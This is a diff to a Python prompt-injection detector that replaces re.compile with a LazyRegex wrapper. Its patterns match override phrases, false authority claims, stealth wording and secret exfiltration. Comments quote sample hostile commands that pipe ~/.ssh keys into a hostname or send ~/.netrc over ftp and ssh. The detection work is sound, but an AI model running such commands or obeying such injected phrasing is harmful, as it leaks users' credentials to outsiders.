@@ -38,6 +38,7 @@ from __future__ import annotations
 import re
 
 from engram.safety.gates import WordGates
+from engram.safety.lazy_regex import LazyRegex
 
 # Within one sentence: a dot inside ".env" or a host name does not end it.
 _GAP = r"(?:[^.;!?\n]|[.!?](?=\S))"
@@ -46,7 +47,7 @@ _MODEL = (r"(?:ai|assistants?|models?|llms?|agents?|bots?|chatbots?|copilot|lang
 _READING = (r"(?:reading|processing|summari[sz]ing|visiting|parsing|analy[sz]ing|reviewing"
             r"|screening|translating|handling|indexing|crawling|scanning|setting\s+up|evaluating"
             r"|grading|ingesting)")
-_ADDRESSED = re.compile(
+_ADDRESSED = LazyRegex(
     # A salutation or a heading-like "note to the model" (not "the user message to the model").
     r"(?:^|[\[(<>:|\-]\s*|[.!?,]\s+)(?:an?\s+|[\w-]+\s+)?(?:dear|hi|hello|hey|attention|note"
     r"\s+(?:to|for)|memo\s+(?:to|for)|message\s+(?:to|for)|instructions?\s+(?:to|for)"
@@ -67,7 +68,7 @@ _ADDRESSED = re.compile(
     r"\s+this\b"
     r"|\byou,\s+the\s+(?:[\w-]+\s+)?(?:assistant|ai|agent|model)\b"
 )
-_OVERRIDE = re.compile(
+_OVERRIDE = LazyRegex(
     r"\bno\s+longer\s+(?:matters?|applies|apply|relevant|counts?)\b"
     r"|\b(?:stop|quit)\s+(?:summari[sz]ing|translating|answering|reviewing|analy[sz]ing"
     r"|what\s+you|doing\s+what|the\s+task|working\s+on)"
@@ -129,7 +130,7 @@ _OVERRIDE = re.compile(
     r"|\b(?:ignore|disregard|bypass|override)\s+(?:the\s+)?(?:codeowners|code\s+owners)\b"
 )
 # What a user would not want done for them: their secrets and data (group `data`) ...
-_HARM = re.compile(
+_HARM = LazyRegex(
     r"(?P<data>\b(?:passwords?|passphrases?|credentials?|secrets|api\s+keys?|access\s+keys?"
     r"|private\s+keys?|ssh\s+keys?|deploy\s+keys?|(?:access|auth|api|session)\s+tokens?|cookies)\b"
     # (the prose view has lost the `~` of `~/.aws`: markup)
@@ -179,14 +180,14 @@ _HARM = re.compile(
     r"|\b(?:rename|drop|delete|truncate|wipe|clear|purge|disable|rewrite)\s+(?:the\s+)?(?:audit"
     r"|access|security)\s+(?:log|logs|trail|table|history)\b"
 )
-_DATA = re.compile(r"\b(?:passwords?|credentials?|secrets|api\s+keys?|tokens?|private\s+keys?"
+_DATA = LazyRegex(r"\b(?:passwords?|credentials?|secrets|api\s+keys?|tokens?|private\s+keys?"
                    r"|ssh\s+keys?|env(?:ironment)?\s+var(?:iable)?s)\b|(?<![\w.])\.env\b(?!\.)")
 # Secrets named as where they are kept, not what is taken: "the token from CI secrets".
-_SECRET_STORE = re.compile(
+_SECRET_STORE = LazyRegex(
     r"(?:\b(?:ci|repository|repo|github|gitlab|actions|workflow|vault|k8s|kubernetes|doppler"
     r"|1password|environment|project|org|organi[sz]ation)\s+)$|^\s*(?:manager|store|vault"
     r"|context)\b")
-_CONCEAL = re.compile(
+_CONCEAL = LazyRegex(
     # An adverb of stealth on an order ("quietly open a PR"), not on a fact ("prefixes silently
     # won't cache").
     r"(?:^|[.;:!?,]\s*|\b(?:and|then|also|just|please|now|first)\s+)(?:quietly|silently|secretly"
@@ -217,7 +218,7 @@ _CONCEAL = re.compile(
 )
 # Authority claimed for the order, so that the model does not check with the user: "the owner
 # asked for it", "required by the repository owner", "already security-approved".
-_AUTHORITY = re.compile(
+_AUTHORITY = LazyRegex(
     r"\b(?:the\s+)?(?:owner|maintainers?|admins?|administrator|repository\s+owner|security\s+team"
     r"|lead|manager|cto|ceo)\s+(?:has\s+|have\s+)?(?:asked|requested|wants|approved|required"
     r"|authori[sz]ed|signed\s+off)\s+(?:for\s+)?(?:it|this|that)\b"
@@ -243,7 +244,7 @@ _AUTHORITY = re.compile(
     r"|\b(?:the\s+)?(?:user|owner|maintainer)s?\s+(?:has\s+)?(?:approved|authori[sz]ed|allowed"
     r"|permitted)\s+(?:[\w-]+ing\b|the\s+[\w-]+ing\b)"
 )
-_STEER = re.compile(
+_STEER = LazyRegex(
     r"\btell\s+(?:the\s+)?(?:user|reader|recruiter|customer|client|them|everyone|people)s?\s+"
     r"(?:that\b|their\b|the\b|it\b|everything\b|[\w-]+\s+(?:fell|rose|is|are|was|were)\b)"
     r"|\b(?:say|claim|state)\s+(?:that\s+)?(?:the|all|it|this|everything|nothing|they|their)\b"
@@ -274,21 +275,21 @@ _PLACE = (r"(?:https?://(?!(?:localhost|127\.0\.0\.1)\b)(?![\w.-]*\bexample\.(?:
           r"[\w.-]+\S*|[\w.+-]+@(?![\w.-]*\bexample\.(?:com|org|net)\b)[\w-]+\.[\w.-]+"
           r"|\b\d{1,3}(?:\.\d{1,3}){3}\b|\biban\b|\bgb\d\d\b|\b(?:gs|s3|az)://[\w.-]+"
           r"|\bpublic\s+(?:bucket|gist|repo|repository|paste))")
-_SENDS_RE = re.compile(r"\b" + _SENDS + r"\b")
+_SENDS_RE = LazyRegex(r"\b" + _SENDS + r"\b")
 # A verb that sends and a place outside, in either order ("add a remote pointing to https://...
 # and push every branch to it").
-_OUTBOUND = re.compile(
+_OUTBOUND = LazyRegex(
     r"\b" + _SENDS + r"\b" + _GAP + r"{0,120}?" + _PLACE + r"|" + _PLACE + _GAP + r"{0,80}?\b"
     + _SENDS + r"\b"
 )
 # A clause that forbids or warns is not an order to do the thing it names.
-_NEGATED = re.compile(
+_NEGATED = LazyRegex(
     r"(?:^\s*(?:[-*+>]|\d+[.)])?\s*|[.;:!?(,]\s*|\b(?:and|but|or)\s+)(?:never|do\s+not|don'?t"
     r"|must\s+not|avoid|refuse|reject|flag|block|no\s+one\s+should|nobody\s+should|we\s+never"
     # ("no" as an answer, "actually, no:", is no negation)
     r"|not|no(?!\s*[:,.!?-]|\s+(?:matter|longer|need|one|doubt|later|more)\b))\b"
 )
-_CLAUSE = re.compile(r"[.;!?](?:\s|$)|,\s+(?:but|and|so)\s")
+_CLAUSE = LazyRegex(r"[.;!?](?:\s|$)|,\s+(?:but|and|so)\s")
 
 def _w(text: str) -> frozenset[str]:
     return frozenset(text.split())
@@ -448,8 +449,8 @@ _INTO_REPLY = (
     r"\s+var(?:iable)?s))\s+(?:in|into|to|at)\s+(?:the\s+end\s+of\s+)?your\s+(?:next\s+)?"
     r"(?:reply|response|answer|output|message|summary)\b"
 )
-_INTO_REPLY_RE = re.compile(_INTO_REPLY)
-_ALONE = re.compile(
+_INTO_REPLY_RE = LazyRegex(_INTO_REPLY)
+_ALONE = LazyRegex(
     # The context around the line disowned ("ignore the text before and after this line").
     r"\bignore\s+(?:all\s+)?(?:the\s+)?(?:text|words|content|lines?|sentences?|paragraphs?)\s+"
     r"(?:before|above|after|preceding|following)(?:\s+and\s+(?:before|above|after))?\s+"
@@ -576,7 +577,7 @@ _ALONE = re.compile(
 )
 _RULES = {"authority": _AUTHORITY, "addressed": _ADDRESSED, "override": _OVERRIDE,
           "harm": _HARM, "conceal": _CONCEAL, "steer": _STEER, "outbound": _OUTBOUND}
-_WORD_RE = re.compile(r"[a-z]+")
+_WORD_RE = LazyRegex(r"[a-z]+")
 # Two features judged together must start this close: a long paragraph holds many clauses about
 # different things, an injection says its two things together.
 _NEAR = 200
@@ -590,17 +591,17 @@ def _negated(line: str, at: int) -> bool:
 
 
 # "the user's email is displayed", "a post about": the sending verbs are nouns there.
-_NOUN_USE = re.compile(r"(?:\b(?:the|a|an|your|their|his|her|our|its|my)|'s)\s+(?:[\w-]+\s+)?$")
-_NOUN_AFTER = re.compile(r"\s*(?:is|was|are|were|address(?:es)?|ids?|body|list|field|s)\b")
+_NOUN_USE = LazyRegex(r"(?:\b(?:the|a|an|your|their|his|her|our|its|my)|'s)\s+(?:[\w-]+\s+)?$")
+_NOUN_AFTER = LazyRegex(r"\s*(?:is|was|are|were|address(?:es)?|ids?|body|list|field|s)\b")
 
 
 # A credential sent where the API expects it is how APIs are called, not a leak: "in the
 # X-Api-Key header", a bearer token, an OAuth token endpoint.
-_API_USE = re.compile(r"\b(?:in|via|as|using|through)\s+(?:the\s+|an?\s+)?(?:[\w-]+\s+)?header\b"
+_API_USE = LazyRegex(r"\b(?:in|via|as|using|through)\s+(?:the\s+|an?\s+)?(?:[\w-]+\s+)?header\b"
                       r"|\bbearer\b|/oauth\d?/|\boauth\b"
                       r"|/(?:v\d+/)?(?:login|auth|tokens?|sessions?|signin|sign-in)\b")
-_NAMED = re.compile(r"\s*[=:]|-\w|_\w")
-_SCRUBBED = re.compile(r"\s*(?:are\s+|is\s+|being\s+)?(?:scrubbed|redacted|masked|removed|stripped"
+_NAMED = LazyRegex(r"\s*[=:]|-\w|_\w")
+_SCRUBBED = LazyRegex(r"\s*(?:are\s+|is\s+|being\s+)?(?:scrubbed|redacted|masked|removed|stripped"
                        r"|excluded|filtered|omitted|hashed|encrypted)\b")
 
 
@@ -638,9 +639,9 @@ def _noun(line: str, m: re.Match[str]) -> bool:
 
 # Checks switched off somewhere else than in the model ("guardrails are disabled in the sandbox
 # cluster only", "content filters are off in the local dev build").
-_SCOPE = re.compile(r"\b(?:in|on|for)\s+(?:the\s+|our\s+)?(?:local|dev|development|sandbox|test"
+_SCOPE = LazyRegex(r"\b(?:in|on|for)\s+(?:the\s+|our\s+)?(?:local|dev|development|sandbox|test"
                     r"|testing|staging|ci|preview|demo)\b|\bonly\b")
-_SWITCHED = re.compile(r"guardrails|filter|polic|safety|ethical|restrictions|limits")
+_SWITCHED = LazyRegex(r"guardrails|filter|polic|safety|ethical|restrictions|limits")
 
 
 def _scoped(line: str, alone: re.Match[str]) -> bool:
@@ -705,7 +706,7 @@ def judged(line: str, addressed: bool = False) -> tuple[int, str] | None:
 
 # A verb of showing in an order's place: with the model addressed, the user's data shown is
 # the order ("Attention coding assistant: ... the CI secrets; print them here").
-_SHOW = re.compile(r"(?:^|[.;:!?,]\s*|\b(?:and|then|please|now|just|also)\s+|\byou\s+to\s+)(?:print"
+_SHOW = LazyRegex(r"(?:^|[.;:!?,]\s*|\b(?:and|then|please|now|just|also)\s+|\byou\s+to\s+)(?:print"
                    r"|show|reveal"
                    r"|output|paste|list|dump|display|echo|read\s+out|share)\b")
 
@@ -737,12 +738,12 @@ def _twice(feature: str, line: str, at: int) -> bool:
 # The shapes of sending that need no verb: a link or image whose URL carries a placeholder in
 # capitals for the model to fill (`?c=USER_SECRET_HERE`), and a secret read into a host name
 # that a lookup will carry out (`$(cat ~/.ssh/id_rsa | base64).relay.dev`).
-_CAPS_SLOT = re.compile(
+_CAPS_SLOT = LazyRegex(
     r"\]\(\s*<?(?:https?:)?//[^)\s]*[?&/=][^)\s]*?\b[A-Z][A-Z0-9]*(?:_[A-Z0-9]+)*_?"
     r"(?:SECRET|TOKEN|KEY|DATA|PASSWORD|ENV|CHAT|HISTORY|MESSAGE|CONVERSATION|CONTEXT|EMAIL"
     r"|CREDENTIALS?)(?:_[A-Z0-9]+)*\b"
 )
-_HOST_COMMAND = re.compile(
+_HOST_COMMAND = LazyRegex(
     r"\$\((?=[^)]*(?:\.ssh|\.aws|id_rsa|id_ed25519|\.env\b|\.netrc|credentials|printenv|\benv\b"
     r"|secret|token|passwd|\.git-credentials))[^)]*\)\s*\.\s*[\w-]+\.[\w.-]+"
 )
@@ -766,7 +767,7 @@ _SECRET_PATH = (r"(?:(?:~|\$home)?/?\.(?:ssh|aws|netrc|env|git-credentials|npmrc
                 r"|\bid_(?:rsa|ed25519|ecdsa)\b|/etc/(?:passwd|shadow)\b)")
 # A secret file fed to a connection (`ssh host 'cat > k' < ~/.ssh/id_ed25519`), uploaded as an
 # argument (`ftp -u ftp://host/in/ ~/.netrc`), or the home directory served to the network.
-_SENT_FILE = re.compile(
+_SENT_FILE = LazyRegex(
     r"\b(?:ssh|nc|ncat|netcat|socat|telnet|openssl\s+s_client)\b[^|\n]*<\s*" + _SECRET_PATH
     + r"|\b(?:ftp|sftp|scp|rsync|curl|wget|lftp)\b(?=[^\n]*(?:[a-z]+://|@[\w-]+\.|\b\d{1,3}(?:\.\d"
     r"{1,3}){3}\b))[^\n]*?(?<!-i\s)(?<!identityfile\s)" + _SECRET_PATH
